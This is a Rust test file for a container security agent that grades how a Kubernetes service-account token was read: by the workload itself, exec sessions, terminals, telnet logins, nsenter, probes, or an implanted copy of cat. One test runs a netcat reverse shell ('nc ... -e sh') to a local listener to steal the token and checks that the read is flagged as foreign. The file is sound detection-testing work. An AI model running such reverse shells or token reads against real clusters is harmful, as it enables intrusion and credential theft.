//! In what manner a token was opened, in real containers with real terminals: each way into a
//! container, and each way to look like something else once inside.
#![expect(clippy::unwrap_used, reason = "a helper of a test fails as the test does")]

use std::{
    fs,
    net::{Ipv4Addr, TcpListener},
    path::Path,
    process::Command,
};

use serde_json::{Value, json};
use tokentrail_tests::{
    AuditLine, Container, ContainerSetup, Finished, Node, Pod, Processes, Request, Sandbox, Stage,
    TOKEN_PATH, Workload, api,
    machine::{cgroup_hierarchies, find_program},
};

#[path = "grades/network.rs"]
mod network;
#[path = "grades/reading.rs"]
mod reading;

use network::{free_port, log_in, type_command};
use reading::{
    EXEC, Expected, FOREIGN, INTERACTIVE, OUTSIDE, Scene, TERMINAL, WORKLOAD, add_user, cat, deep,
    grade, orphan, orphan_in_a_pid_namespace,
};

/// How the workload itself, or a session in its container, runs a line of shell.
type Run = fn(&Container, &str) -> anyhow::Result<Finished>;

const ITSELF: Run = Container::workload;
const SESSION: Run = |container, script| container.exec(&["sh", "-c", script]);
const AT_TERMINAL: Run = |container, script| container.exec_tty(&["sh", "-c", script]);

/// Runs each line in this container, and holds how the read was graded against what is expected.
#[track_caller]
fn check(scene: &Scene<'_>, pod: &Pod, container: &Container, rows: &[(Run, &str, Expected)]) {
    let failures: Vec<String> = rows
        .iter()
        .filter_map(|(run, script, expected)| {
            let open = scene.open_by(pod, || (script, run(container, script)));
            (grade(&open) != *expected).then(|| format!("{script}: not {expected:?} {open:#}"))
        })
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn whoever_entered_is_known_and_the_workload_is_whatever_it_does_with_sessions_and_parents() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    let Workload { pod, container } = scene.node.workload().unwrap();
    add_user(&container);
    container.install("nohup").unwrap();
    let (cat, orphan) = (cat(), orphan());
    let hung_up = format!("trap '' HUP; {orphan}");
    check(
        &scene,
        &pod,
        &container,
        &[
            (ITSELF, &cat, WORKLOAD),
            (ITSELF, &format!("setsid {cat}"), WORKLOAD),
            (ITSELF, &format!("nohup {cat}"), WORKLOAD),
            (ITSELF, &format!("sh -c '{orphan}'"), WORKLOAD),
            (ITSELF, &format!("su app -c '{cat}'"), WORKLOAD),
            (SESSION, &cat, EXEC),
            (SESSION, &format!("setsid {cat}"), EXEC),
            (SESSION, &format!("nohup {cat}"), EXEC),
            (SESSION, &orphan, EXEC),
            (SESSION, &orphan_in_a_pid_namespace(), EXEC),
            (SESSION, &deep(), EXEC),
            (SESSION, &format!("su app -c '{cat}'"), EXEC),
            (AT_TERMINAL, &cat, INTERACTIVE),
            (AT_TERMINAL, &format!("{cat} | cat"), INTERACTIVE),
            (AT_TERMINAL, &format!("{cat} < /dev/tty 2> /dev/tty"), INTERACTIVE),
            (AT_TERMINAL, &format!("su app -c '{cat}'"), INTERACTIVE),
            (AT_TERMINAL, &format!("{cat} < /dev/null"), TERMINAL),
            (AT_TERMINAL, &format!("{cat} 2> /dev/null"), TERMINAL),
            (AT_TERMINAL, &format!("nohup {cat}"), TERMINAL),
            // Without its terminal a session is still one.
            (AT_TERMINAL, &format!("setsid {cat}; true"), EXEC),
            (AT_TERMINAL, &hung_up, EXEC),
        ],
    );
    let opens = scene.node.opens_of(&pod).unwrap();
    let by_app = opens.iter().filter(|open| open["tokentrail"]["open"]["uid"] == 1000);
    assert_eq!(by_app.count(), 3, "{opens:#?}");
}

#[test]
fn a_terminal_made_within_the_container_counts_like_one_from_outside() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    let Workload { pod, container } = scene.node.workload().unwrap();
    container.install("script").unwrap();
    container.install("tmux").unwrap();
    // It starts nothing where text is not UTF-8.
    let locale = Path::new("/usr/lib/locale/C.utf8/LC_CTYPE");
    container.add(locale, locale).unwrap();
    let script = format!("script -q -c '{}' /dev/null < /dev/null", cat());
    // Its server leaves the session that starts it, and the read is a child of that server.
    let tmux = format!(
        "LC_CTYPE=C.UTF-8 tmux -f /dev/null -L {{}} new-session -d '{}' < /dev/null > /dev/null 2>&1",
        cat()
    );
    let native = ("interactive", Some(true));
    check(
        &scene,
        &pod,
        &container,
        &[
            (SESSION, &script, INTERACTIVE),
            (AT_TERMINAL, &script, INTERACTIVE),
            (ITSELF, &script, native),
            (SESSION, &tmux.replace("{}", "one"), INTERACTIVE),
            (AT_TERMINAL, &tmux.replace("{}", "two"), INTERACTIVE),
            (ITSELF, &tmux.replace("{}", "three"), native),
        ],
    );
}

#[test]
fn a_login_over_the_network_is_interactive_whoever_started_its_server() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    let Workload { pod, container } = scene.node.workload().unwrap();
    // What telnetd does, sshd does: a new session, a terminal, a shell.
    for (run, expected) in [(ITSELF, ("interactive", Some(true))), (SESSION, INTERACTIVE)] {
        let port = free_port();
        let server = format!("telnetd -b 127.0.0.1:{port} -l /bin/sh > /dev/null 2>&1");
        assert!(run(&container, &server).unwrap().success());
        let open = scene.open_by(&pod, || {
            let shown = type_command(log_in(port), &cat());
            assert!(shown.contains(&pod.token), "{shown}");
        });
        assert_eq!(grade(&open), expected, "{open:#}");
    }
}

#[test]
fn a_container_with_a_terminal_of_its_own_reads_interactively_and_natively() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    let pod = Pod::create(&sandbox).unwrap();
    let setup = ContainerSetup { terminal: true, ..ContainerSetup::default() };
    let container = Container::start_as(&sandbox, &pod, setup).unwrap();
    check(
        &scene,
        &pod,
        &container,
        &[
            (ITSELF, &format!("{} 2> /dev/tty", cat()), ("interactive", Some(true))),
            (ITSELF, &cat(), ("terminal", Some(true))),
            (ITSELF, &format!("setsid {}", cat()), WORKLOAD),
            (SESSION, &cat(), EXEC),
            (AT_TERMINAL, &cat(), INTERACTIVE),
        ],
    );
}

/// The workload itself, sessions, and what these leave behind.
fn check_basics(scene: &Scene<'_>, pod: &Pod, container: &Container) {
    check(
        scene,
        pod,
        container,
        &[
            (ITSELF, &cat(), WORKLOAD),
            (ITSELF, &format!("setsid {}", cat()), WORKLOAD),
            (SESSION, &cat(), EXEC),
            (SESSION, &orphan(), EXEC),
            (AT_TERMINAL, &cat(), INTERACTIVE),
        ],
    );
}

#[test]
fn containers_that_share_their_processes_are_told_apart() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    let pause = scene.node.workload().unwrap();
    check_container_that_sees(&sandbox, &scene, Processes::SharedWith(&pause.container));
}

#[test]
fn a_container_that_sees_the_nodes_processes_is_told_from_its_sessions() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    check_container_that_sees(&sandbox, &scene, Processes::Host);
}

fn check_container_that_sees(sandbox: &Sandbox, scene: &Scene<'_>, processes: Processes<'_>) {
    let pod = Pod::create(sandbox).unwrap();
    let setup = ContainerSetup { processes, ..ContainerSetup::default() };
    let container = Container::start_as(sandbox, &pod, setup).unwrap();
    check_basics(scene, &pod, &container);
}

#[test]
fn a_workload_in_a_cgroup_of_its_own_making_is_still_the_workload() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    let Workload { pod, container } = scene.node.workload().unwrap();
    // As systemd in a container does: `init.scope` below the container's own.
    for hierarchy in cgroup_hierarchies().unwrap() {
        let nested = hierarchy.mount.join(container.cgroup()).join("init.scope");
        fs::create_dir(&nested).unwrap();
        // Of the v1 hierarchies this one takes nobody in before it has processors and memory.
        for file in ["cpuset.mems", "cpuset.cpus"] {
            let above = hierarchy.mount.join(container.cgroup()).join(file);
            if !hierarchy.unified && above.exists() {
                fs::write(nested.join(file), fs::read(above).unwrap()).unwrap();
            }
        }
        fs::write(nested.join("cgroup.procs"), container.main_pid().to_string()).unwrap();
    }
    check_basics(&scene, &pod, &container);
}

#[test]
fn who_comes_by_nsenter_is_outside_and_in_the_containers_cgroup_a_session() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(Node::new(&sandbox).unwrap());
    let Workload { pod, container } = scene.node.workload().unwrap();
    let enter = |script: &str| {
        let busybox = find_program("busybox").unwrap();
        let busybox = busybox.display();
        let (pid, cat) = (container.main_pid(), cat());
        let script = format!("{script}{busybox} nsenter -t {pid} -m -u -i -p /bin/busybox {cat}");
        let read = sandbox.run(Command::new("sh").args(["-c", &script])).unwrap();
        assert_eq!(read.output, pod.token, "{read:?}");
    };
    let open = scene.open_by(&pod, || enter(""));
    assert_eq!(grade(&open), OUTSIDE, "{open:#}");
    let join: String = cgroup_hierarchies()
        .unwrap()
        .iter()
        .map(|it| it.mount.join(container.cgroup()).join("cgroup.procs"))
        .map(|procs| format!("echo $$ > {}; ", procs.display()))
        .collect();
    let open = scene.open_by(&pod, || enter(&join));
    assert_eq!(grade(&open), EXEC, "{open:#}");
}

#[test]
fn probes_and_lifecycle_hooks_are_the_workloads_own_and_nobody_else_is() {
    let sandbox = Sandbox::create().unwrap();
    let mut node = Node::new(&sandbox).unwrap();
    let workload = node.workload().unwrap();
    let script = |name: &str| format!("{} > /tmp/{name}", cat());
    let command = |name: &str| json!({"exec": {"command": ["sh", "-c", script(name)]}});
    let hooks = json!({
        "livenessProbe": command("live"),
        "readinessProbe": command("ready"),
        "startupProbe": command("started"),
        "lifecycle": {"postStart": command("begin"), "preStop": command("end")},
    });
    let kubeconfig = api::serve(&sandbox, &[api::pod(&workload, "shop/cart:1", &hooks)]).unwrap();
    node.agent = node.agent.kubeconfig(kubeconfig);
    let scene = Scene::of(node);
    let Workload { pod, container } = &workload;
    let probe = ("workload", Some(false));
    let rows: Vec<(String, Expected)> = ["live", "ready", "started", "begin", "end"]
        .map(|name| (script(name), probe))
        .into_iter()
        .chain([(script("other"), EXEC), (format!("{}; true", script("live")), EXEC)])
        .collect();
    let rows: Vec<_> = rows.iter().map(|(script, it)| (SESSION, script.as_str(), *it)).collect();
    check(&scene, pod, container, &rows);
    // At a terminal nobody is a probe.
    check(&scene, pod, container, &[(AT_TERMINAL, &script("live"), INTERACTIVE)]);
}

/// From its next start on, the agent takes what it has not learned by then for foreign and new.
fn end_learning<'a>(mut node: Node<'a>, sandbox: &Sandbox) -> Node<'a> {
    let config = sandbox.folder().join("config.yaml");
    fs::write(&config, "learning-seconds: 0\n").unwrap();
    node.agent = node.agent.args(["--config".as_ref(), config.as_os_str()]);
    node
}

#[test]
fn a_reverse_shell_is_foreign_to_a_workload_that_does_not_read_its_token() {
    let sandbox = Sandbox::create().unwrap();
    let scene = Scene::of(end_learning(Node::new(&sandbox).unwrap(), &sandbox));
    let Workload { pod, container } = scene.node.workload().unwrap();
    let home = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = home.local_addr().unwrap().port();
    let open = scene.open_by(&pod, || {
        let call = format!("nc 127.0.0.1 {port} -e sh > /dev/null 2>&1 &");
        assert!(container.workload(&call).unwrap().success());
        let shown = type_command(home.accept().unwrap().0, &cat());
        assert!(shown.contains(&pod.token), "{shown}");
    });
    assert_eq!(grade(&open), FOREIGN, "{open:#}");
}

/// A copy of `cat`: the same program under another path.
fn implant(container: &Container) -> String {
    container.add(&container.root().join("bin/busybox"), Path::new("/tmp/cat")).unwrap();
    format!("/tmp/cat {TOKEN_PATH}")
}

#[test]
fn what_one_pod_was_seen_to_read_with_is_known_of_the_next_of_its_image_also_after_a_restart() {
    let sandbox = Sandbox::create().unwrap();
    let mut node = Node::new(&sandbox).unwrap();
    let [first, second, other] = [(); 3].map(|()| node.workload().unwrap());
    let pods = [(&first, "shop/cart:1"), (&second, "shop/cart:1"), (&other, "shop/till:1")];
    let pods = pods.map(|(workload, image)| api::pod(workload, image, &json!({})));
    node.agent = node.agent.kubeconfig(api::serve(&sandbox, &pods).unwrap());
    let agent = node.agent.start().unwrap();
    node.wait_until_seen(&first).unwrap();
    assert!(agent.terminate().unwrap().success());
    let scene = Scene::of(end_learning(node, &sandbox));
    for (Workload { pod, container }, script, expected) in [
        (&second, cat(), WORKLOAD),
        (&second, implant(&second.container), FOREIGN),
        (&first, implant(&first.container), FOREIGN),
        (&first, cat(), WORKLOAD),
        (&other, cat(), FOREIGN),
    ] {
        check(&scene, pod, container, &[(ITSELF, &script, expected)]);
    }
}

#[test]
fn a_foreign_read_alerts_with_a_request_of_a_new_kind_and_with_no_other() {
    let sandbox = Sandbox::create().unwrap();
    let node = Node::new(&sandbox).unwrap();
    let workload = node.workload().unwrap();
    let Workload { pod, container } = &workload;
    let agent = node.agent.start().unwrap();
    node.wait_until_seen(&workload).unwrap();
    assert!(agent.terminate().unwrap().success());
    let scene = Scene::of(end_learning(node, &sandbox));
    let ask = |node: &Node<'_>, request| {
        let line = AuditLine::recorded(request, Stage::ResponseComplete, pod).unwrap();
        node.audit.append(&line).unwrap();
    };
    // What the workload asks by itself.
    ask(&scene.node, Request::ListPods);
    scene.node.settle().unwrap();
    let read =
        |script: &str, expected| check(&scene, pod, container, &[(ITSELF, script, expected)]);

    read(&cat(), WORKLOAD);
    ask(&scene.node, Request::GetSecret);
    scene.node.settle().unwrap();
    assert_eq!(scene.node.alerts_about(pod).unwrap(), Vec::<Value>::new(), "learned");

    read(&implant(container), FOREIGN);
    ask(&scene.node, Request::ListPods);
    scene.node.settle().unwrap();
    assert_eq!(scene.node.alerts_about(pod).unwrap(), Vec::<Value>::new(), "its own request");

    ask(&scene.node, Request::ListNodes);
    let alert = scene.node.settled_alert_about(pod).unwrap();
    let mark = &alert["tokentrail"];
    assert_eq!((&mark["grade"], &mark["request"]), (&json!("foreign"), &json!("new")), "{alert:#}");
    assert_eq!(mark["confidence"], "high", "{alert:#}");
    let executable = alert["process"]["executable"].as_str().unwrap();
    assert!(executable.ends_with("/tmp/cat"), "{alert:#}");
}
